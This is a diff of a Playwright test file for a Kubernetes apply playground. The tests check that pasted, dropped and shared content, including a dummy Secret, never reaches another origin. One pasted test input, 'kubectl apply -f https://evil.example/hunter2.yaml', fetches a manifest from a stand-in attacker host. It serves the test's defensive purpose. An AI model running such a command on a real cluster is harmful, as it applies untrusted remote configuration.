@@ -1,7 +1,7 @@
 import { expect, type Page } from '@playwright/test';
 import { type HostServer, serveHostPages } from './host/server.ts';
 import { dropFiles, Playground, pasteOnPage } from './page.ts';
-import { test } from './test.ts';
+import { test, withMonaco } from './test.ts';
 
 const secret = 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: s\nstringData:\n  password: hunter2\n';
 
@@ -21,43 +21,10 @@ function recorded(page: Page): readonly string[] {
   return requests;
 }
 
-test('typing, bringing, sharing and opening examples sends nothing to another origin', async ({ page, baseURL }) => {
-  const requests = recorded(page);
-  const playground = new Playground(page);
-  await playground.open();
-  await playground.paste(secret);
-  await expect(playground.stepButton(1)).toContainText('read');
-  // Bringing: by paste, as files, as an error text.
-  await pasteOnPage(page, 'kubectl apply -f https://evil.example/hunter2.yaml\n');
-  const dialog = page.getByRole('dialog');
-  await expect(dialog).toContainText('kubectl');
-  await page.keyboard.press('Escape');
-  await dropFiles(playground.steps, { 'a.yaml': secret, 'b.yaml': secret.replace('name: s', 'name: t') });
-  await expect(dialog).toContainText('b.yaml');
-  await page.keyboard.press('Escape');
-  await pasteOnPage(page, 'error: Apply failed with 1 conflict: conflict with "hunter2": .spec.replicas');
-  await expect(dialog).toContainText('Conflict with other managers');
-  await page.keyboard.press('Escape');
-  // Sharing: the link, and the ways that name other sites.
-  await page.getByRole('button', { name: 'Share', exact: true }).click();
-  await expect(dialog.getByRole('textbox', { name: 'The link' })).toHaveValue(/#/);
-  await page.keyboard.press('Escape');
-  // What the engine computes on demand, in every view.
-  await playground.openExample('A conflict and its three ways out');
-  await playground.selectStep(3);
-  await playground.conflict.getByRole('button', { name: 'Field by field' }).click();
-  for (const view of ['Changes', 'managedFields', 'Table', 'Object']) {
-    await playground.result.getByRole('tab', { name: view }).click();
-  }
-  await playground.line('replicas: 4').first().getByText('replicas').first().click();
-  await expect(playground.field).toContainText('.spec.replicas');
-
-  const elsewhere = requests.filter((url) => !url.startsWith(`${baseURL}/`) && !/^(data|blob):/.test(url));
-  expect(elsewhere).toEqual([]);
-  expect(requests.filter((request) => request.includes('hunter2'))).toEqual([]);
-});
-
-test('an embed asks the playground for its own files, and tells nobody where it stands', async ({ page, baseURL }) => {
+test('an embed asks the playground for its own files, and lets nobody know where it stands', async ({
+  page,
+  baseURL,
+}) => {
   const requests = recorded(page);
   const referrers = new Set<string | undefined>();
   page.on('request', (request) => {
@@ -108,3 +75,43 @@ for (const [path, trusted] of [
     );
   });
 }
+
+test.describe('with Monaco', () => {
+  test.use(withMonaco);
+
+  test('typing, bringing, sharing and opening examples sends nothing to another origin', async ({ page, baseURL }) => {
+    const requests = recorded(page);
+    const playground = new Playground(page);
+    await playground.open();
+    await playground.paste(secret);
+    await expect(playground.stepButton(1)).toContainText('read');
+    // Bringing: by paste, as files, as an error text.
+    await pasteOnPage(page, 'kubectl apply -f https://evil.example/hunter2.yaml\n');
+    const dialog = page.getByRole('dialog');
+    await expect(dialog).toContainText('kubectl');
+    await page.keyboard.press('Escape');
+    await dropFiles(playground.steps, { 'a.yaml': secret, 'b.yaml': secret.replace('name: s', 'name: t') });
+    await expect(dialog).toContainText('b.yaml');
+    await page.keyboard.press('Escape');
+    await pasteOnPage(page, 'error: Apply failed with 1 conflict: conflict with "hunter2": .spec.replicas');
+    await expect(dialog).toContainText('Conflict with other managers');
+    await page.keyboard.press('Escape');
+    // Sharing: the link, and the ways that name other sites.
+    await page.getByRole('button', { name: 'Share', exact: true }).click();
+    await expect(dialog.getByRole('textbox', { name: 'The link' })).toHaveValue(/#/);
+    await page.keyboard.press('Escape');
+    // What the engine computes on demand, in every view.
+    await playground.openExample('A conflict and its three ways out');
+    await playground.selectStep(3);
+    await playground.conflict.getByRole('button', { name: 'Field by field' }).click();
+    for (const view of ['Changes', 'managedFields', 'Table', 'Object']) {
+      await playground.result.getByRole('tab', { name: view }).click();
+    }
+    await playground.line('replicas: 4').first().getByText('replicas').first().click();
+    await expect(playground.field).toContainText('.spec.replicas');
+
+    const elsewhere = requests.filter((url) => !url.startsWith(`${baseURL}/`) && !/^(data|blob):/.test(url));
+    expect(elsewhere).toEqual([]);
+    expect(requests.filter((request) => request.includes('hunter2'))).toEqual([]);
+  });
+});
